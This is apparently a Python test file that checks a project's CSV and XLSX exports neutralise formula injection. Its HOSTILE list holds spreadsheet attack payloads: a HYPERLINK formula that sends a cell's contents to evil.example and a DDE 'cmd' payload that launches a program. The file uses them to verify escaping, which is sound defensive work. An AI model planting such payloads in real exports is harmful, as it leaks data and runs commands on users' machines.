"""Every CSV or XLSX the project writes keeps typed text from running as a formula (D7).

The files are written for real and read back with the csv module and openpyxl.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from cli.roster import INVITE_COLUMNS
from core.tabular import FORMULA_PREFIXES, csv_writer, plain_cell, safe_cell, write_xlsx
from models.base import db
from tests import factories as f

ROOT = Path(__file__).resolve().parent.parent

# Names people (or an attacker filling in a form) could give, and a branch named like a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd",
    "\t=1+2",  # a spreadsheet that strips the tab would see =1+2
    "\r=1+2",
    "=1+1",
]
BRANCH = "=1+1"


def assert_inert(cells: list[Any]) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_PREFIXES), repr(cell)


def test_safe_cell_follows_owasp():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("张三", "第一党支部", "2026-06-10", "", "'=already quoted", -5, 3.5, None):
        assert safe_cell(value) == value


def test_plain_cell_reads_back_what_safe_cell_marked():
    for text in HOSTILE:
        assert plain_cell(safe_cell(text)) == text
    # Only an apostrophe before a formula's first character is the export's mark.
    for value in ("'张三", "'", "''=1", "'x=1", "张'=1", "=1+1", "", -5, None):
        assert plain_cell(value) == value


def test_roster_invite_csv_neutralises_formulas(app, tmp_path):
    with app.app_context(), db.connection_context():
        branch = f.branch(BRANCH)
        for i, name in enumerate(HOSTILE):
            f.member(name, branch, phone=f"1380000{i:04d}")
        f.member("张三", branch, phone="13800009999")
    out = tmp_path / "codes.csv"
    result = app.test_cli_runner().invoke(args=["roster", "invite", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == INVITE_COLUMNS
    by_phone = {row[2][-4:]: row for row in rows[1:]}
    for i, name in enumerate(HOSTILE):
        row = by_phone[f"{i:04d}"]
        assert row[:2] == ["'" + BRANCH, "'" + name]  # the text kept, after the apostrophe
    assert by_phone["9999"][1] == "张三"  # ordinary names are untouched
    for row in rows:
        assert_inert(row)


def test_csv_writer_quotes_every_cell(tmp_path):
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerows([["a;=1+2", "@x", 7], ["-3", "", None]])
    text = buffer.getvalue()
    assert text.splitlines() == ['"a;=1+2","\'@x","7"', '"\'-3","",""']
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a;=1+2", "'@x", "7"], ["'-3", "", ""]]


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [["姓名", "数"], *[[name, -5] for name in HOSTILE], ["a\x00b", 3.5]])
    ws = load_workbook(path).active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["姓名", "数"]
    for name, (text, number) in zip(HOSTILE, rows[1:], strict=False):
        assert text.data_type == "s", (name, text.data_type)
        # A CR comes back as written (openpyxl with lxml escapes it) or as LF (without lxml,
        # XML reads a raw CR back as LF); the apostrophe in front is what matters.
        assert text.value in ("'" + name, ("'" + name).replace("\r", "\n"))
        assert (number.data_type, number.value) == ("n", -5)
    assert rows[-1][0].value == "a\ufffdb"  # XML cannot hold NUL: replaced, not a crash
    for row in rows:
        assert_inert([c.value for c in row])
    # Not even openpyxl's own reading in formula mode sees a formula.
    assert all(c.data_type != "f" for row in load_workbook(path).active.iter_rows() for c in row)


# A CSV or XLSX written any other way than through core.tabular.
RAW_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|\.to_csv\(|\.to_excel\("
)
PRODUCT = ["api", "bot", "core", "handlers", "models", "scheduler", "web", "app.py"]


def test_every_writer_goes_through_the_helper():
    offenders = []
    for top in PRODUCT:
        base = ROOT / top
        files = [base] if base.is_file() else sorted(base.rglob("*.py"))
        for path in files:
            if path == ROOT / "core" / "tabular.py":
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if RAW_WRITERS.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == [], "write CSV/XLSX with core.tabular.csv_writer / write_xlsx"
